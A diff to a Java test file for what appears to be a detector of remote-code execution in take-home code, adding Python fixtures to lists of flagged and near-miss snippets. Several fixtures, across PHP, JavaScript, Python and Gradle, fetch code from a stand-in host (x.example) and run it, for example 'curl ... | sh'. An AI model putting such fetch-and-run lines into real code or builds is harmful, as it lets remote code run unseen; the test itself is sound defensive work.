@@ -48,6 +48,7 @@ final class TakeHomeCodeTest {
         "a.php#<?php include 'https://x.example/a.txt';",
         "a.php#<?php $base = 'https://x.example/';\ninclude $base . 'a.txt';",
         "a.js#const c = ['curl', '-s', 'https://x.example/a', '|', 'sh'].join(' ');\nexecSync(c);",
+        "a.py#urllib.request.urlretrieve(u, '/tmp/h.py')\ns = importlib.util.spec_from_file_location('h', '/tmp/h.py')",
         "a.py#import os\nos.system(' '.join(['curl', 'https://x.example/a', '|', 'sh']))",
         "build.gradle.kts#exec { commandLine(\"sh\", \"-c\", \"curl -s https://x.example/a | sh\") }",
         "build.gradle#exec {\n  commandLine 'sh', '-c', 'curl -s https://x.example/a | sh'\n}");
@@ -70,6 +71,7 @@ final class TakeHomeCodeTest {
         "notes.md#fetch(u).then(r => r.text()).then(t => eval(t))",
         "a.js#// never eval(response.data) of fetch(u)\nconst a = 1;",
         "main.go#out, err := exec.Command(\"git\", \"tag\").Output()\nresp, err := http.Get(url)\nif err != nil {\n\tpanic(err)\n}",
+        "a.py#urllib.request.urlretrieve(u, '/tmp/h.csv')\ns = importlib.util.spec_from_file_location('h', 'h.py')",
         "build.gradle#apply from: 'gradle/quality.gradle'\nexec { commandLine 'git', 'rev-parse', 'HEAD' }",
         "a.php#<?php include 'templates/page.php'; $r = file_get_contents('https://x.example/a'); echo $r;",
         "Vault.sol#function execute(bytes calldata data) external { target.call(data); }");
